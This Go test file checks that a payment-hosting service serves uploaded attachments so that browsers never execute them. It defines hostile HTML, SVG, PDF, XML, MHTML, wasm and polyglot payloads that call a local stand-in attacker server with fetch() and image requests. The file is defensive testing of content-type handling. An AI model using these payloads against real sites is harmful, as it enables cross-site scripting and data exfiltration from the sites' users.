package hosted_test

import (
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"
)

// hostileFiles are files that do something when a browser takes them for what they are:
// each tells elsewhere that it could. A server that cares for nothing would send them with
// the media type.
func hostileFiles(elsewhere string) map[string]struct{ media, text string } {
	tells := func(kind string) string { return elsewhere + "/told?by=" + kind }
	script := func(kind string) string { return `fetch("` + tells(kind) + `");new Image().src="` + tells(kind) + `"` }
	mail := "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://x/\r\n\r\n" +
		`<img src="` + tells("mhtml") + `"><script>` + script("mhtml") + "</script>\r\n--b--\r\n"
	return map[string]struct{ media, text string }{
		"html":     {"text/html", `<!doctype html><img src="` + tells("html") + `"><script>` + script("html") + `</script>`},
		"svg":      {"image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload='` + script("svg") + `'><image href="` + tells("svg") + `"/><script>` + script("svg") + `</script></svg>`},
		"pdf":      {"application/pdf", "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(" + tells("pdf") + ")>>/AA<</O<</S/JavaScript/JS(app.launchURL\\('" + tells("pdf") + "'\\))>>>>>>endobj trailer<</Root 1 0 R>>"},
		"xml":      {"text/xml", `<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>` + script("xml") + `</h:script></a>`},
		"xsl":      {"text/xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="` + tells("xsl") + `"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>` + script("xsl") + `</h:script></a>`},
		"mhtml":    {"multipart/related", mail},
		"js":       {"text/javascript", script("js")},
		"wasm":     {"application/wasm", "\x00asm\x01\x00\x00\x00" + "<script>" + script("wasm") + "</script>"},
		"polyglot": {"text/html", "%PDF-1.7\n<html><script>/*\n1 0 obj<<>>endobj*/" + script("polyglot") + "</script>"},
		"octet":    {"application/octet-stream", "<!doctype html><script>" + script("octet") + "</script>"},
	}
}

// elsewhere is a server of an attacker: it notes who has told it anything, and serves a
// page that shows a file in every way there is and tells when all have been tried.
type elsewhere struct {
	url  string
	mu   sync.Mutex
	told map[string]bool
	done chan struct{}
}

func newElsewhere(t *testing.T) *elsewhere {
	t.Helper()
	e := &elsewhere{told: map[string]bool{}, done: make(chan struct{}, 100)}
	mux := http.NewServeMux()
	mux.HandleFunc("/told", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		e.mu.Lock()
		defer e.mu.Unlock()
		e.told[r.FormValue("by")] = true
	})
	mux.HandleFunc("/tried", func(http.ResponseWriter, *http.Request) { e.done <- struct{}{} })
	mux.HandleFunc("/last", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, `<script>fetch("/tried")</script>`)
	})
	mux.HandleFunc("/shows", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		src := html.EscapeString(r.FormValue("file"))
		_, _ = fmt.Fprintf(w, `<!doctype html><img src="%[1]s"><iframe src="%[1]s"></iframe><object data="%[1]s"></object><embed src="%[1]s">
<script src="%[1]s"></script><link rel="stylesheet" href="%[1]s"><video src="%[1]s"></video>
<script>addEventListener("load", () => { const f = document.createElement("iframe"); f.src = "/last"; document.body.append(f) })</script>`, src)
	})
	s := httptest.NewServer(mux)
	t.Cleanup(func() { s.CloseClientConnections(); s.Close() })
	e.url = s.URL
	return e
}

// show opens the page with a file and waits until everything on it has been tried.
func (e *elsewhere) show(b *tab, file string) {
	b.t.Helper()
	b.open(e.url + "/shows?file=" + strings.ReplaceAll(file, "&", "%26"))
	select {
	case <-e.done:
	case <-time.After(time.Minute):
		b.t.Fatal("the page is never loaded: ", file)
	}
}

// heard says whether somebody has told something.
func (e *elsewhere) heard(by string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.told[by]
}

// TestAttackAttachmentsInABrowser: whatever a file is that came with a payment, a browser
// that is led to it, or shows it on another page, runs nothing of it and fetches nothing
// for it.
func TestAttackAttachmentsInABrowser(t *testing.T) {
	t.Parallel()
	chromium := browse(t)
	_, err := chromedp.CallBrowser(chromium, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorDeny})
	require.NoError(t, err)
	e := newElsewhere(t)
	href := regexp.MustCompile(`href="([^"]+)" data-testid="attachment"`)
	for kind, file := range hostileFiles(e.url) {
		t.Run(kind, func(t *testing.T) { // one after the other
			b := newTab(chromium, t, true)
			careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", file.media)
				_, _ = fmt.Fprint(w, strings.ReplaceAll(file.text, "/told?by=", "/told?by=careless-")) // which may be late
			}))
			e.show(b, careless.URL+"/")
			careless.Close()
			switch kind {
			case "html", "svg", "xml", "js", "polyglot":
				require.True(t, e.heard("careless-"+kind), "it could be told where nobody cares")
			}

			h := newHouse(t)
			_, portal := h.paid(file.text)
			m := href.FindStringSubmatch(h.get(portal).body)
			require.NotNil(t, m)
			e.show(b, h.url+m[1])
			led, err := chromedp.Call(b.ctx, page.Navigate, page.NavigateParams{URL: h.url + m[1]})
			require.NoError(t, err)
			require.Equal(t, "net::ERR_ABORTED", led.ErrorText, "it is a download, and not shown")
			e.show(b, h.url+m[1]) // what was led to would have told by now
			require.False(t, e.heard(kind))
		})
	}
}
